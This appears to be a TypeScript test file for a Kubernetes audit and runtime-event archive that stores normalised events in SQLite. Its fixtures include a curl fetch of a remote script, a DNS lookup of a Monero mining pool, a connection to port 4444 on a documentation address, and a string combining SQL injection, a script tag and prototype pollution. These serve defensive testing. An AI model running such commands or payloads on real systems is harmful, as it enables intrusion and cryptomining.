// The event archive's rows (entity columns, summaries, raw JSON within its cap) and the pipeline
// archiving accepted events in the batch's transaction, once, over a real SQLite store.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { loadRuleset } from '../app/open.js';
import { fakeClock } from '../core/clock.js';
import { normalizeAuditEvent } from '../normalize/k8s-audit/audit-event.js';
import { normalizeTraceeEvent } from '../normalize/tracee/tracee.js';
import { openSqliteStore } from '../store/sqlite/sqlite-store.js';
import type { ArchivedEventInput, Cluster } from '../store/store.js';
import { auditEvent, execEvent, privilegedPodEvent } from '../testing/audit-events.js';
import { dns, exec, IMAGE_CTIME_NS, traceeEvent } from '../testing/tracee-events.js';
import { AuditPipeline } from './audit-pipeline.js';
import { archiveRow, MAX_RAW_CHARS, rawJson } from './event-archive.js';

const CLUSTER: Cluster = { name: 'c1', detectorId: 'c'.repeat(32), createdAt: 0, platform: 'self-managed', arn: null };

function auditRow(raw: Record<string, unknown>): ArchivedEventInput {
  const r = normalizeAuditEvent(raw, 'c1');
  assert.ok(r.ok);
  return archiveRow(r.event, raw);
}

function runtimeRow(raw: Record<string, unknown>): ArchivedEventInput {
  const r = normalizeTraceeEvent(raw, 'c1', 'node-3');
  assert.ok(r.ok);
  return archiveRow(r.event, raw);
}

describe('archive rows', () => {
  test('an exec into a pod: the caller, the pod as workload and pod, the source IP, a readable summary', () => {
    const raw = execEvent('kube-system', 'coredns-1', { auditID: 'aid-1' });
    const row = auditRow(raw);
    assert.deepEqual({ ...row, raw: JSON.parse(row.raw) as unknown }, {
      cluster: 'c1', time: Date.parse(raw.stageTimestamp as string), plane: 'audit', key: 'aid-1\u0000ResponseComplete',
      actor: 'arn:aws:sts::111122223333:assumed-role/eks-admin/alice', namespace: 'kube-system',
      workload: 'pods/kube-system/coredns-1', pod: 'kube-system/coredns-1', image: null, node: null, sourceIp: '203.0.113.25',
      summary: 'create pods/exec kube-system/coredns-1 101', raw, truncated: false,
    });
  });

  test('a pod create names its image; a name only in the body is used; kubelet calls name their node', () => {
    const created = privilegedPodEvent('priv', 'registry.example/tools:1.0');
    delete (created.objectRef as Record<string, unknown>).name;
    const row = auditRow(created);
    assert.equal(row.workload, 'pods/default/priv');
    assert.equal(row.pod, 'default/priv');
    assert.equal(row.image, 'registry.example/tools:1.0');
    assert.equal(row.summary, 'create pods default/priv 201');

    const deployment = auditRow(auditEvent({ verb: 'patch', objectRef: { resource: 'deployments', namespace: 'shop', name: 'web', apiGroup: 'apps', apiVersion: 'v1' } }));
    assert.equal(deployment.workload, 'deployments/shop/web');
    assert.equal(deployment.pod, null, 'a deployment is not a pod');

    const kubelet = auditRow(auditEvent({ user: { username: 'system:node:ip-10-0-1-5', groups: ['system:nodes'] }, verb: 'get', objectRef: { resource: 'secrets', namespace: 'shop', name: 'db' } }));
    assert.equal(kubelet.node, 'ip-10-0-1-5');
    assert.equal(kubelet.workload, null);
    assert.equal(kubelet.summary, 'get secrets shop/db 200');

    const nonResource = auditRow(auditEvent({ verb: 'get', requestURI: '/version?timeout=32s', objectRef: undefined }));
    assert.equal(nonResource.summary, 'get /version 200');
    assert.equal(nonResource.namespace, null);
  });

  test('runtime events: the pod, image and node; a network event names its remote address', () => {
    const e = runtimeRow(exec('/usr/bin/curl', ['curl', '-s', 'http://203.0.113.9/x.sh'], IMAGE_CTIME_NS));
    assert.equal(e.plane, 'runtime');
    assert.equal(e.actor, null);
    assert.equal(e.pod, 'other/crypto');
    assert.equal(e.workload, 'pods/other/crypto');
    assert.equal(e.image, 'ubuntu');
    assert.equal(e.node, 'node-3');
    assert.equal(e.sourceIp, null);
    assert.equal(e.summary, 'process_exec /usr/bin/curl -s http://203.0.113.9/x.sh');
    assert.match(runtimeRow(dns('pool.minexmr.com')).summary, /^dns_request pool\.minexmr\.com A$/);
    const connect = runtimeRow(traceeEvent('security_socket_connect', [
      { name: 'sockfd', type: 'int', value: 3 },
      { name: 'type', type: 'int', value: 1 },
      { name: 'remote_addr', type: 'struct sockaddr*', value: { sa_family: 'AF_INET', sin_addr: '203.0.113.50', sin_port: '4444' } },
    ]));
    assert.equal(connect.sourceIp, '203.0.113.50');
    assert.match(connect.summary, /^network_connect 203\.0\.113\.50:4444/);
  });

  test('raw JSON stays within the cap: large members are cut and marked, the rest kept', () => {
    const big = privilegedPodEvent('big', 'nginx');
    big.responseObject = { data: 'x'.repeat(40_000) };
    big.requestObject = { note: 'y'.repeat(10_000) };
    const r = rawJson(big);
    assert.equal(r.truncated, true);
    assert.ok(r.raw.length <= MAX_RAW_CHARS);
    const parsed = JSON.parse(r.raw) as Record<string, unknown>;
    assert.match(String(parsed.responseObject), /^\[truncated: 4\d{4} characters\]$/);
    assert.deepEqual(parsed.user, big.user);
    assert.equal(parsed.auditID, big.auditID);

    const wide = Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`k${i}`, 'v'.repeat(10)]));
    const cut = rawJson(wide);
    assert.equal(cut.truncated, true);
    assert.ok(cut.raw.length <= MAX_RAW_CHARS);
    assert.equal((JSON.parse(cut.raw) as { truncated: boolean }).truncated, true);
    assert.deepEqual(rawJson({ a: 1 }), { raw: '{"a":1}', truncated: false });
  });

  test('hostile strings are kept as data, entity values and summaries capped', () => {
    const evil = `'); DROP TABLE event_archive; --\u0000\u001b[31m<script>${'z'.repeat(2000)}`;
    const raw = JSON.parse(JSON.stringify(execEvent('kube-system', 'p'))) as Record<string, unknown>;
    raw.user = { username: evil };
    Object.defineProperty(raw, '__proto__', { value: { polluted: true }, enumerable: true });
    const row = auditRow(raw);
    assert.equal(row.actor, evil.slice(0, 512));
    assert.ok(row.summary.length <= 300);
    assert.equal((JSON.parse(row.raw) as { user: { username: string } }).user.username, evil);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });
});

describe('the pipeline archives accepted events with their batch', () => {
  const ruleset = loadRuleset([]);
  const make = async (on: boolean, runtime = on) => {
    const store = openSqliteStore({ path: ':memory:' });
    await store.addCluster(CLUSTER);
    const archiveEvents = on ? { audit: true, runtime } : undefined;
    const p = new AuditPipeline({ store, ruleset, clock: fakeClock(), finding: { accountId: '000000000000', region: 'local', partition: 'aws' }, ...(archiveEvents ? { archiveEvents } : {}) });
    await p.restore();
    return { store, p };
  };

  test('judged events are archived once; rejected and RequestReceived events are not', async () => {
    const { store, p } = await make(true);
    const exec1 = execEvent('kube-system', 'coredns-1');
    const list = auditEvent();
    const batch = [exec1, { kind: 'Event', stage: 'ResponseComplete' }, auditEvent({ stage: 'RequestReceived' }), list];
    const r = await p.ingest(CLUSTER, batch, 'test');
    assert.equal(r.accepted, 2);
    assert.equal(r.rejected.length, 1);
    assert.equal(r.created.length, 1);
    const { events } = await store.listEvents({ order: 'asc' });
    assert.deepEqual(events.map((e) => JSON.parse(e.raw).auditID as string).sort(), [exec1.auditID, list.auditID].sort());
    await p.ingest(CLUSTER, batch, 'test');
    assert.equal((await store.listEvents({})).events.length, 2, 're-sent events (with or without findings) are archived once');
    const byPod = await store.listEvents({ pod: 'kube-system/coredns-1' });
    assert.deepEqual(byPod.events.map((e) => e.summary), ['create pods/exec kube-system/coredns-1 101']);
    await store.close();
  });

  test('runtime events are archived too; nothing is archived when archiving is off', async () => {
    const on = await make(true);
    await on.p.ingest(CLUSTER, [dns('example.com'), dns('example.org')], 'runtime/tracee', 'tracee', 'node-1');
    assert.deepEqual((await on.store.listEvents({ node: 'node-1', order: 'asc' })).events.map((e) => e.summary), ['dns_request example.com A', 'dns_request example.org A']);
    await on.store.close();
    const off = await make(false);
    assert.equal((await off.p.ingest(CLUSTER, [execEvent('kube-system', 'x')], 'test')).accepted, 1);
    assert.equal((await off.p.ingest(CLUSTER, [dns('example.com')], 'runtime/tracee', 'tracee', 'node-1')).accepted, 1);
    assert.deepEqual((await off.store.listEvents({})).events, []);
    await off.store.close();
  });

  test('with runtime archiving off (the default), audit events are archived and runtime events are not', async () => {
    const auditOnly = await make(true, false);
    await auditOnly.p.ingest(CLUSTER, [execEvent('kube-system', 'y')], 'test');
    await auditOnly.p.ingest(CLUSTER, [dns('example.com')], 'runtime/tracee', 'tracee', 'node-1');
    assert.deepEqual((await auditOnly.store.listEvents({})).events.map((e) => e.plane), ['audit']);
    await auditOnly.store.close();
  });
});
